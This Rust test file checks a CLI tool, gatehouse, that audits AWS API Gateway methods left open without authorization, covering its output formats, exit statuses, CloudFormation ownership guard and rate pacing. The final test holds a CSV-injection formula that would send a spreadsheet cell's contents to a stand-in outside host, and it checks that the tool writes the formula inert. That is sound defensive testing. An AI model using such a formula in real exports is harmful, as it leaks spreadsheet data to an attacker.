//! The sweep on the command line: `gatehouse audit` across two accounts (two sandboxes behind two
//! profiles) and several regions, in every format, with its exit statuses; the warning on a
//! CloudFormation-owned API; and the pacing that keeps a sweep within the account's quota.

use crate::common;

use common::accounts::{apply_env, Accounts, BILLING_ACCOUNT, REGIONS, SHOP_ACCOUNT};
use common::cli::Run;
use common::sandbox::{python, repo_root};
use common::Sandbox;
use serde_json::Value;
use std::process::Command;

fn run(accounts: &Accounts, args: &[&str]) -> Run {
    accounts.gatehouse(args).output().unwrap().into()
}

/// The sweep's APIs by name.
fn by_name(doc: &Value) -> std::collections::BTreeMap<String, Value> {
    doc["apis"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["name"].as_str().unwrap().to_string(), a.clone()))
        .collect()
}

#[test]
fn one_sweep_reads_two_accounts_in_every_region_and_reports_in_every_format() {
    // billing's eu-west-1 refuses every API Gateway call.
    let accounts = Accounts::start(&["--region-error", "eu-west-1=access-denied"]);
    let sweep = ["audit", "--profiles", "shop,billing", "--regions", REGIONS];

    // JSON: every API of both accounts, with account, region, kind and owner; the refused
    // region is an error of its own and makes the exit status 1.
    let out = run(&accounts, &[&sweep[..], &["--format", "json"]].concat());
    assert_eq!(out.status, 1, "{}", out.stderr);
    let doc = out.json();
    let apis = by_name(&doc);
    assert_eq!(
        apis.keys().collect::<Vec<_>>(),
        ["Billing", "Orders", "Reports", "Storefront"]
    );
    let row = |name: &str| {
        let a = &apis[name];
        (
            a["profile"].as_str().unwrap().to_string(),
            a["account"].as_str().unwrap().to_string(),
            a["region"].as_str().unwrap().to_string(),
            a["kind"].as_str().unwrap().to_string(),
            a["open"].as_u64().unwrap(),
        )
    };
    let t = |p: &str, acc: &str, r: &str, k: &str, open| {
        (
            p.to_string(),
            acc.to_string(),
            r.to_string(),
            k.to_string(),
            open,
        )
    };
    // OPTIONS is open everywhere it exists, and never counted as open.
    assert_eq!(
        row("Storefront"),
        t("shop", SHOP_ACCOUNT, "us-east-1", "REST", 1)
    );
    assert_eq!(
        row("Orders"),
        t("shop", SHOP_ACCOUNT, "eu-west-1", "HTTP", 1)
    );
    assert_eq!(
        row("Billing"),
        t("billing", BILLING_ACCOUNT, "ap-southeast-2", "REST", 0)
    );
    assert_eq!(
        row("Reports"),
        t("billing", BILLING_ACCOUNT, "us-west-2", "HTTP", 2)
    );
    assert_eq!(apis["Storefront"]["managedBy"]["stack"], "shop-prod");
    assert_eq!(apis["Orders"]["managedBy"]["tool"], "terraform");
    assert!(apis["Orders"]["managedBy"].get("stack").is_none());
    assert_eq!(apis["Billing"]["managedBy"], Value::Null);
    assert_eq!(apis["Storefront"]["summary"]["openOptions"], 1);
    assert_eq!(apis["Storefront"]["methods"].as_array().unwrap().len(), 3);
    let errors = doc["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0]["profile"], "billing");
    assert_eq!(errors[0]["region"], "eu-west-1");
    assert_eq!(errors[0]["account"], BILLING_ACCOUNT);
    assert_eq!(errors[0]["code"], "AccessDeniedException");
    assert!(errors[0]["message"]
        .as_str()
        .unwrap()
        .contains("is not authorized to perform: apigateway:GET"));

    // Exit statuses: errors ignored → 0; open methods with --fail-on-open → 3.
    let ok = run(&accounts, &[&sweep[..], &["--ignore-errors"]].concat());
    assert_eq!(ok.status, 0, "{}", ok.stderr);
    let open = run(
        &accounts,
        &[&sweep[..], &["--ignore-errors", "--fail-on-open"]].concat(),
    );
    assert_eq!(open.status, 3, "{}", open.stderr);
    let only_billing_ok = run(
        &accounts,
        &[
            "audit",
            "--profiles",
            "billing",
            "--regions",
            "ap-southeast-2",
            "--fail-on-open",
        ],
    );
    assert_eq!(only_billing_ok.status, 0, "{}", only_billing_ok.stderr);

    // The table: one line per API, the owner column, the error row and the summary line.
    let table = &ok.stdout;
    let line_of = |name: &str| {
        table
            .lines()
            .find(|l| l.contains(name))
            .unwrap()
            .to_string()
    };
    assert!(line_of("Storefront").contains("shop-prod"), "{table}");
    assert!(
        line_of("Orders").contains("Terraform (tag managed-by = terraform)"),
        "{table}"
    );
    assert!(
        table.contains("ERROR  billing  eu-west-1  AccessDeniedException"),
        "{table}"
    );
    assert!(
        table.contains("4 APIs in 5 regions of 2 profiles · 3 with open methods (4 open, OPTIONS aside) · 1 region could not be read"),
        "{table}"
    );
    // Open first: the API with the most open methods leads.
    let first = table.lines().nth(1).unwrap();
    assert!(first.contains("Reports"), "{table}");

    // SARIF 2.1.0, valid against the vendored schema: one error per open method but OPTIONS.
    let sarif = run(&accounts, &[&sweep[..], &["--format", "sarif"]].concat());
    assert_eq!(sarif.status, 1);
    let file = accounts.home.path().join("gatehouse.sarif");
    std::fs::write(&file, &sarif.stdout).unwrap();
    let check = Command::new(python())
        .arg(repo_root().join("tests/sarif/validate.py"))
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "{}{}",
        String::from_utf8_lossy(&check.stdout),
        String::from_utf8_lossy(&check.stderr)
    );
    let doc = sarif.json();
    let results = doc["runs"][0]["results"].as_array().unwrap();
    let mut arns: Vec<&str> = results
        .iter()
        .map(|r| {
            assert_eq!(r["level"], "error");
            assert_eq!(r["ruleId"], "GH001");
            r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
                .as_str()
                .unwrap()
        })
        .collect();
    arns.sort();
    let storefront = accounts.api_id("A", "Storefront");
    let orders = accounts.api_id("A", "Orders");
    let reports = accounts.api_id("B", "Reports");
    let mut expected = vec![
        format!("arn:aws:execute-api:us-east-1:{SHOP_ACCOUNT}:{storefront}/*/GET/cart"),
        format!("arn:aws:execute-api:eu-west-1:{SHOP_ACCOUNT}:{orders}/*/GET/orders"),
        format!("arn:aws:execute-api:us-west-2:{BILLING_ACCOUNT}:{reports}/*/GET/health"),
        format!("arn:aws:execute-api:us-west-2:{BILLING_ACCOUNT}:{reports}/*/GET/reports"),
    ];
    expected.sort();
    assert_eq!(arns, expected);
    let notes = &doc["runs"][0]["invocations"][0]["toolExecutionNotifications"];
    assert_eq!(notes.as_array().unwrap().len(), 1);

    // CSV: a header, one record per API, one per unread region; names and counts parse back.
    let csv_out = run(&accounts, &[&sweep[..], &["--format", "csv"]].concat());
    let mut reader = csv::Reader::from_reader(csv_out.stdout.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header[..3], ["profile", "account", "region"]);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(records.len(), 5);
    let storefront_rec = records.iter().find(|r| &r[5] == "Storefront").unwrap();
    assert_eq!(
        (&storefront_rec[1], &storefront_rec[7], &storefront_rec[10]),
        (SHOP_ACCOUNT, "1", "shop-prod")
    );
    let error_rec = records.iter().find(|r| !r[11].is_empty()).unwrap();
    assert_eq!((&error_rec[0], &error_rec[2]), ("billing", "eu-west-1"));
    assert!(error_rec[11].starts_with("AccessDeniedException: "));

    // `--profiles all`: every profile of the files (the environment's credentials are not one).
    let all = run(
        &accounts,
        &[
            "audit",
            "--profiles",
            "all",
            "--regions",
            REGIONS,
            "--json",
            "--ignore-errors",
        ],
    );
    assert_eq!(all.status, 0, "{}", all.stderr);
    assert_eq!(
        all.json()["profiles"],
        serde_json::json!(["billing", "shop"])
    );
    assert_eq!(by_name(&all.json()).len(), 4);

    // Two profiles of one account (an admin role beside the everyday one): the account is swept
    // once, under the profile listed first, and the other is said to be the same account.
    std::fs::write(
        accounts.home.path().join("aws-config"),
        accounts.aws_config_with_shop_admin(),
    )
    .unwrap();
    let both = [
        "audit",
        "--profiles",
        "shop-admin,billing,shop",
        "--regions",
        REGIONS,
    ];
    let twice = run(
        &accounts,
        &[&both[..], &["--json", "--ignore-errors"]].concat(),
    );
    assert_eq!(twice.status, 0, "{}", twice.stderr);
    let doc = twice.json();
    let apis = by_name(&doc);
    assert_eq!(apis.len(), 4, "no API counted twice: {doc}");
    assert_eq!(apis["Storefront"]["profile"], "shop-admin");
    assert_eq!(apis["Orders"]["profile"], "shop-admin");
    assert_eq!(
        doc["sameAccount"],
        serde_json::json!([{"profile": "shop", "account": SHOP_ACCOUNT, "sweptAs": "shop-admin"}])
    );
    assert!(
        doc["summaryLine"].as_str().unwrap().starts_with(
            "4 APIs in 5 regions of 3 profiles (one the same account as another, swept once) · "
        ),
        "{doc}"
    );
    let table = run(&accounts, &[&both[..], &["--ignore-errors"]].concat());
    assert!(
        table
            .stdout
            .contains("SAME   shop  account 111111111111: swept as shop-admin"),
        "{}",
        table.stdout
    );

    // Bad input: a region that is not one is refused before anything is read.
    let bad = run(
        &accounts,
        &["audit", "--profiles", "shop", "--regions", "us-east-1,Mars"],
    );
    assert_eq!(bad.status, 2);
    assert!(
        bad.stderr.contains("'Mars' is not a region name"),
        "{}",
        bad.stderr
    );
}

#[test]
fn a_stack_owned_api_is_changed_only_with_force() {
    let accounts = Accounts::start(&[]);
    let pools = accounts.shop.control(
        "/_sandbox/bulk-pools",
        serde_json::json!({"region": "us-east-1", "count": 1, "prefix": "ShopPool"}),
    );
    let pool = pools["pools"][0]["name"].as_str().unwrap().to_string();
    let storefront = accounts.api_id("A", "Storefront");
    let at = ["--profile", "shop", "--region", "us-east-1"];

    // The review shows the stack.
    let audit = run(
        &accounts,
        &[&["audit", "--api", "Storefront", "--json"], &at[..]].concat(),
    );
    assert_eq!(audit.status, 0, "{}", audit.stderr);
    assert_eq!(audit.json()["apis"][0]["managedBy"]["stack"], "shop-prod");

    // Without --force: refused with the warning (exit 2), and nothing is created or changed.
    let protect = [
        &[
            "protect",
            "--api",
            "Storefront",
            "--all-open",
            "--pool",
            &pool,
        ][..],
        &at[..],
    ]
    .concat();
    let refused = run(&accounts, &protect);
    assert_eq!(refused.status, 2, "{}\n{}", refused.stdout, refused.stderr);
    let said = format!("{}{}", refused.stdout, refused.stderr);
    assert!(
        said.contains("Storefront is managed by CloudFormation stack shop-prod: the next stack update will undo this change — change the template instead"),
        "{said}"
    );
    assert!(said.contains("--force"), "{said}");
    let state = accounts.shop.aws_state(&storefront);
    assert_eq!(state["methods"]["GET /cart"]["authorizationType"], "NONE");
    assert_eq!(state["authorizers"].as_array().unwrap().len(), 0);

    // With --force: applied.
    let forced = run(&accounts, &[&protect[..], &["--force"]].concat());
    assert_eq!(forced.status, 0, "{}\n{}", forced.stdout, forced.stderr);
    let state = accounts.shop.aws_state(&storefront);
    assert_eq!(
        state["methods"]["GET /cart"]["authorizationType"],
        "COGNITO_USER_POOLS"
    );
    assert_eq!(
        state["methods"]["OPTIONS /cart"]["authorizationType"],
        "NONE"
    );

    // Unprotect warns the same way.
    let unprotect = [
        &["unprotect", "--api", "Storefront", "--methods", "GET /cart"][..],
        &at[..],
    ]
    .concat();
    let refused = run(&accounts, &unprotect);
    assert_eq!(refused.status, 2, "{}", refused.stderr);
    assert_eq!(
        accounts.shop.aws_state(&storefront)["methods"]["GET /cart"]["authorizationType"],
        "COGNITO_USER_POOLS"
    );
    let forced = run(&accounts, &[&unprotect[..], &["--force"]].concat());
    assert_eq!(forced.status, 0, "{}", forced.stderr);
    assert_eq!(
        accounts.shop.aws_state(&storefront)["methods"]["GET /cart"]["authorizationType"],
        "NONE"
    );

    // A Terraform tag is shown, but needs no --force.
    let orders = run(
        &accounts,
        &[
            "unprotect",
            "--profile",
            "shop",
            "--region",
            "eu-west-1",
            "--api",
            "Orders",
            "--methods",
            "POST /orders",
            "--json",
        ],
    );
    assert_eq!(orders.status, 0, "{}\n{}", orders.stdout, orders.stderr);
    assert_eq!(orders.with_status("changed"), ["POST /orders"]);
}

#[test]
fn a_sweep_keeps_within_the_accounts_quota() {
    // One account throttled as AWS does (10/s burst 40; GetResources 5 per 2 s), two regions of
    // REST and HTTP APIs: fired all at once, GetResources alone would be refused 19 times.
    let sb = Sandbox::start_with(&["--throttle", "10,40"]);
    let seeded = Command::new(python())
        .arg(repo_root().join("tests/fake_aws/seed_sweep.py"))
        .args(["--endpoint", &sb.url, "--regions", "us-east-1,eu-west-1"])
        .args(["--rest", "12", "--http", "8"])
        .output()
        .unwrap();
    assert!(
        seeded.status.success(),
        "{}",
        String::from_utf8_lossy(&seeded.stderr)
    );
    sb.reset_stats();
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join("aws-config"),
        format!(
            "[profile one]\nregion = us-east-1\nendpoint_url = {}\n\
             aws_access_key_id = testing\naws_secret_access_key = testing\n",
            sb.url
        ),
    )
    .unwrap();
    let mut c = Command::new(env!("CARGO_BIN_EXE_gatehouse"));
    c.args([
        "audit",
        "--profiles",
        "one",
        "--regions",
        "us-east-1,eu-west-1",
        "--json",
    ]);
    apply_env(&mut c, home.path());
    let out: Run = c.output().unwrap().into();
    assert_eq!(out.status, 0, "{}", out.stderr);
    let doc = out.json();
    assert_eq!(doc["apis"].as_array().unwrap().len(), 40);
    assert_eq!(doc["errors"].as_array().unwrap().len(), 0);
    let stats = sb.stats();
    assert_eq!(stats["totals"]["throttled"], 0, "{stats}");
    assert_eq!(sb.calls("apigateway", "GetResources"), 24);
}

#[test]
fn a_csv_cell_that_starts_like_a_formula_is_written_inert() {
    let sb = Sandbox::start();
    let home = tempfile::tempdir().unwrap();
    let formula = r#"=HYPERLINK("https://x.example/?"&B2,"Pets")"#;
    let script = r#"
api = c.create_rest_api(name=sys.argv[2])['id']
root = c.get_resources(restApiId=api)['items'][0]['id']
c.put_method(restApiId=api, resourceId=root, httpMethod='GET', authorizationType='NONE')
print(api)
"#;
    let api_id = sb.boto3(script, &[formula]).trim().to_string();
    let out = common::cli::run(
        &sb,
        home.path(),
        &["audit", "--regions", "us-east-1", "--format", "csv"],
    );
    assert_eq!(out.status, 0, "{}{}", out.stdout, out.stderr);
    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = records
        .iter()
        .find(|r| &r[4] == api_id.as_str())
        .unwrap_or_else(|| panic!("no row for {api_id}: {}", out.stdout));
    assert_eq!(&row[5], format!("'{formula}"), "a spreadsheet would run it");
    assert!(row[5].starts_with("'="));
    // The counts beside it are numbers still.
    assert_eq!((&row[6], &row[7]), ("1", "1"));
}
